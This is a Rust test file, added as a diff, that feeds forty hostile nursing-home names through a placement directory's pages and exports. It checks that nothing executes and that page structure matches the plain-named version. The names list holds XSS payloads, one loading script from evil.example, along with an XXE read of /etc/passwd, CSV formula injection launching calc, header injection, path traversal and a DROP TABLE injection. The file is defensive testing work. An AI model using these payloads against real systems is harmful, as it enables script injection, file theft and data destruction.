@@ -1,0 +1,311 @@
+//! Forty names nobody would give a nursing home, through every page and export: nothing executes, nothing breaks, and each reads as the
+//! directory has it.
+//!
+//! The same homes are published twice, once under these names and once under plain ones. A page made of the one must be element for
+//! element and attribute for attribute the page made of the other: what broke out of its place would be one more.
+
+use std::path::Path;
+use std::sync::{Arc, LazyLock};
+
+use axum::body::Body;
+use axum::http::{Request, StatusCode};
+use placement::catalog::SharedCatalog;
+use placement::ledger::sqlite::SqliteLedger;
+use placement::serve::App;
+use tempfile::TempDir;
+
+use crate::api::{Answer, Api, publish, sample_app};
+use crate::markup::{Element, Node, read};
+
+/// The longest of them.
+static ENDLESS: LazyLock<String> = LazyLock::new(|| "Endless ".repeat(625));
+
+/// The names: script, broken-out attributes, other languages' syntax, turned and invisible letters, formulas, and what files cannot hold.
+fn names() -> Vec<&'static str> {
+    vec![
+        "<script>alert(1)</script>",
+        "</script><script src=//evil.example/x.js></script>",
+        "\"><img src=x onerror=alert(1)>",
+        "' autofocus onfocus='alert(1)",
+        "\" autofocus onfocus=\"alert(1)\" x=\"",
+        "<svg onload=alert(1)>",
+        "</title><svg/onload=alert(1)>",
+        "</desc></svg><script>alert(1)</script>",
+        "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
+        "</textarea></option></select></table><h1>Best of all</h1>",
+        "</article></main></body></html>",
+        "<!-- <p> -->",
+        "<![CDATA[<b>bold</b>]]>",
+        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
+        "{{ frame.title }} {% include \"base.html\" %} ${7*7} #{7*7} <%= 7*7 %>",
+        "&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp;",
+        "javascript:alert(document.cookie)",
+        "data:text/html,<script>alert(1)</script>",
+        "../../../../etc/passwd %2e%2e%2f %00",
+        "\\u003cscript\\u003e \\ud800 \\x00 \\n \\\"",
+        "=HYPERLINK(\"http://evil.example\",\"Best home\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "=1+1\",\"=2+2",
+        "Home, with \"quotes\", commas, and\na line end",
+        "A\r\nSet-Cookie: stolen=1\r\n\r\n<script>",
+        "BEL \u{7} ESC \u{1b}[2J DEL \u{7f} NEL \u{85}",
+        "(Home) Tj ET endstream endobj 1 0 obj << /OpenAction << /S /JavaScript >> >>",
+        "Harbor \u{202e}yratropeR\u{202c} House",
+        "\u{202e}emoh desreveR",
+        "\u{2067}\u{2066}\u{202b}Never closed",
+        "Ze\u{200b}ro\u{200d} wid\u{feff}th \u{2060}home",
+        "\u{5d1}\u{5d9}\u{5ea} \u{5d0}\u{5d1}\u{5d5}\u{5ea} (House) \u{627}\u{644}\u{639}\u{631}\u{628}\u{64a}\u{629}",
+        "👩\u{200d}👩\u{200d}👧 🏥 \u{1f1fa}\u{1f1f8} Home",
+        "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}\u{30c}\u{30d}\u{30e}\u{30f}algo",
+        "Not \u{fffe} in \u{ffff} XML \u{fdd0} \u{fffd} \u{e000} \u{10ffff}",
+        "' OR 1=1; DROP TABLE lists; --",
+        ENDLESS.as_str(),
+    ]
+}
+
+/// Homes around one ZIP that differ in nothing but their names; a name stands for street and owner too.
+fn homes(name: impl Fn(usize) -> String) -> Vec<u8> {
+    const HEADER: [&str; 18] = [
+        "CMS Certification Number (CCN)",
+        "Provider Name",
+        "Provider Address",
+        "City/Town",
+        "State",
+        "ZIP Code",
+        "Telephone Number",
+        "Ownership Type",
+        "Number of Certified Beds",
+        "Provider Type",
+        "Legal Business Name",
+        "Special Focus Status",
+        "Abuse Icon",
+        "Overall Rating",
+        "Latitude",
+        "Longitude",
+        "Geocoding Footnote",
+        "Processing Date",
+    ];
+    let mut file = csv::Writer::from_writer(Vec::new());
+    file.write_record(HEADER).unwrap();
+    for at in 0..names().len() {
+        let called = name(at);
+        let north = format!("{:.4}", 39.0 + f64::from(u16::try_from(at).unwrap()) * 0.004);
+        file.write_record([
+            &ccn(at),
+            &called,
+            &called,
+            "KANSAS CITY",
+            "MO",
+            "64108",
+            "8165550100",
+            &called,
+            "60",
+            "Medicare and Medicaid",
+            &called,
+            "",
+            "N",
+            "4",
+            &north,
+            "-94.57",
+            "",
+            "2026-10-29",
+        ])
+        .unwrap();
+    }
+    file.into_inner().unwrap()
+}
+
+fn ccn(at: usize) -> String {
+    format!("{}", 265_001 + at)
+}
+
+fn id(at: usize) -> String {
+    format!("ccn:{}", ccn(at))
+}
+
+/// A server of such homes with a ledger.
+struct Town {
+    api: Api,
+    _folder: TempDir,
+}
+
+impl Town {
+    async fn hostile() -> Self {
+        Self::of(homes(|at| names()[at].to_owned())).await
+    }
+
+    async fn plain() -> Self {
+        Self::of(homes(|at| format!("HOME {at}"))).await
+    }
+
+    async fn of(file: Vec<u8>) -> Self {
+        let folder = TempDir::new().unwrap();
+        let (files, index) = (folder.path().join("files"), folder.path().join("index"));
+        crate::folder::write(&files, &[("homes.csv", file)]);
+        publish(&files, &index, "2026-11-21T12:00:00Z");
+        let ledger = SqliteLedger::open(&folder.path().join("ledger.sqlite")).await.unwrap();
+        Self { api: Api::new(app(&index, ledger)), _folder: folder }
+    }
+
+    /// The names as the directory has them.
+    async fn called(&self) -> Vec<String> {
+        let mut called = Vec::new();
+        for at in 0..names().len() {
+            let answer = self.api.get(&format!("/v1/providers/{}", id(at))).await;
+            assert_eq!(answer.status, StatusCode::OK, "the row of {:?} was lost", names()[at]);
+            called.push(answer.json()["provider"]["name"]["value"].as_str().unwrap().to_owned());
+        }
+        called
+    }
+
+    async fn form(&self, path: &str, more: &[(&str, &str)]) -> Answer {
+        let asked = [("near", "64108"), ("service", "skilled_nursing"), ("need", "wound.npwt"), ("limit", "100")];
+        let mut body = form_urlencoded::Serializer::new(String::new());
+        let body = body.extend_pairs(asked).extend_pairs(more).finish();
+        let request = Request::post(path).header("content-type", "application/x-www-form-urlencoded");
+        self.api.send(request.body(Body::from(body)).unwrap()).await
+    }
+
+    /// Every page that shows a name, with what it is called here.
+    async fn pages(&self) -> Vec<(String, Answer)> {
+        let mut pages = vec![("directory".to_owned(), self.api.get("/directory").await)];
+        for at in 0..names().len() {
+            pages.push((format!("provider {at}"), self.api.get(&format!("/providers/{}", id(at))).await));
+        }
+        for at in (0..names().len()).step_by(5) {
+            let picks: Vec<String> = (at..at + 5).map(id).collect();
+            let picks: Vec<(&str, &str)> = picks.iter().map(|id| ("pick", id.as_str())).collect();
+            pages.push((format!("compare {at}"), self.form("/compare", &picks).await));
+        }
+        for order in ["distance", "name"] {
+            for language in ["en", "es"] {
+                let wish = [("order", order), ("list_language", language)];
+                pages.push((format!("choice list {order} {language}"), self.form("/choice-list", &wish).await));
+            }
+        }
+        pages
+    }
+}
+
+fn app(index: &Path, ledger: SqliteLedger) -> App {
+    let app = App { catalog: SharedCatalog::new(index), ledger: Some(Arc::new(ledger)), ..sample_app() };
+    app.catalog.reload().unwrap();
+    app
+}
+
+/// What a page is made of: its elements, and their attributes without what data may change.
+fn frame(page: &Element) -> Vec<String> {
+    const DATA: [&str; 8] = ["value", "href", "title", "data-label", "aria-label", "d", "x", "y"];
+    let shape = |element: &&Element| {
+        let attributes = element.attributes.iter().map(|(name, value)| {
+            let kept = if DATA.contains(&name.as_str()) { "" } else { value.as_str() };
+            format!(" {name}={kept:?}")
+        });
+        format!("<{}{}>", element.name, attributes.collect::<String>())
+    };
+    page.all().iter().map(shape).collect()
+}
+
+/// What a page may not have, whatever its data.
+fn dangers(page: &Element) -> Vec<String> {
+    let mut dangers = Vec::new();
+    for element in page.all() {
+        let name = element.name.as_str();
+        if name == "script" && (element.attribute("src") != Some("/assets/placement.js") || !element.inside.is_empty())
+        {
+            dangers.push(format!("a script: {element:?}"));
+        }
+        if ["iframe", "object", "embed", "base", "style", "math", "foreignObject", "template", "img"].contains(&name) {
+            dangers.push(format!("an element {name}"));
+        }
+        for (attribute, value) in &element.attributes {
+            if attribute.starts_with("on") || attribute == "style" || attribute == "srcdoc" {
+                dangers.push(format!("an attribute {attribute}"));
+            }
+            let leads = ["href", "src", "action", "formaction"].contains(&attribute.as_str());
+            if leads && !["/", "#", "tel:+1-"].iter().any(|start| value.starts_with(start)) || value.starts_with("//") {
+                dangers.push(format!("{attribute} leads to {value}"));
+            }
+        }
+    }
+    dangers
+}
+
+/// Where `text` stands beside other text of its line without `bdi` or `dir` around it, by the element it stands in.
+fn unisolated(element: &Element, isolated: bool, text: &str, found: &mut Vec<String>) {
+    // What cannot hold elements shows its text by itself.
+    const ALONE: [&str; 6] = ["title", "desc", "option", "textarea", "bdi", "script"];
+    // What begins a line of its own turns nothing outside.
+    const LINES: [&str; 11] = ["h1", "h2", "h3", "h4", "p", "li", "td", "th", "dt", "dd", "caption"];
+    let isolated = isolated || ALONE.contains(&element.name.as_str()) || element.attribute("dir") == Some("auto");
+    let by_itself = LINES.contains(&element.name.as_str()) && element.inside.len() == 1;
+    for node in &element.inside {
+        match node {
+            Node::Element(inner) => unisolated(inner, isolated, text, found),
+            Node::Text(words) if isolated || !words.contains(text) || by_itself && words.trim() == text => {}
+            Node::Text(_) => found.push(element.name.clone()),
+        }
+    }
+}
+
+#[tokio::test]
+async fn hostile_names_stay_names_on_every_page() {
+    let (hostile, plain) = (Town::hostile().await, Town::plain().await);
+    let called = hostile.called().await;
+    let mut faults = Vec::new();
+    for ((what, page), (_, tame)) in hostile.pages().await.into_iter().zip(plain.pages().await) {
+        assert_eq!((page.status, tame.status), (StatusCode::OK, StatusCode::OK), "{what}: {}", page.text);
+        let (page, tame) = match (read(&page.text), read(&tame.text)) {
+            (Ok(page), Ok(tame)) => (page, tame),
+            (page, tame) => {
+                faults.push(format!("{what}: {:?} {:?}", page.err(), tame.err()));
+                continue;
+            }
+        };
+        faults.extend(dangers(&page).into_iter().map(|danger| format!("{what}: {danger}")));
+        let (made, expected) = (frame(&page), frame(&tame));
+        if let Some((made, expected)) = made.iter().zip(&expected).find(|(made, expected)| made != expected) {
+            faults.push(format!("{what}: {made} instead of {expected}"));
+        }
+        if made.len() != expected.len() {
+            faults.push(format!("{what}: {} elements instead of {}", made.len(), expected.len()));
+        }
+        for name in called.iter().filter(|name| name.contains(['\u{202e}', '\u{2067}'])) {
+            let mut places = Vec::new();
+            unisolated(&page, false, name, &mut places);
+            faults.extend(places.into_iter().map(|place| format!("{what}: a turned name stands bare in {place}")));
+        }
+    }
+    assert!(faults.is_empty(), "{}", faults.join("\n"));
+}
+
+#[tokio::test]
+async fn each_name_reads_as_the_directory_has_it() {
+    let town = Town::hostile().await;
+    let called = town.called().await;
+    for (name, typed) in called.iter().zip(names()) {
+        let bare = |text: &str| text.split(|c: char| c.is_whitespace() || c.is_control()).collect::<String>();
+        assert_eq!(bare(name), bare(typed), "nothing but white space and control characters is lost");
+        assert!(!name.chars().any(char::is_control), "{name:?}");
+    }
+    for (what, page) in town.pages().await {
+        let page = read(&page.text).unwrap();
+        let text = page.text();
+        let shown: Vec<&String> = match what.split_once(' ') {
+            Some(("provider", at)) => {
+                let name = &called[at.parse::<usize>().unwrap()];
+                assert_eq!(page.named("h1")[0].text(), *name, "{what}");
+                vec![name]
+            }
+            Some(("compare", at)) => called.iter().skip(at.parse().unwrap()).take(5).collect(),
+            Some(("choice", _)) => called.iter().collect(),
+            _ => Vec::new(),
+        };
+        for name in shown {
+            assert!(text.contains(name.as_str()), "{what} lacks {name:?}");
+        }
+    }
+}
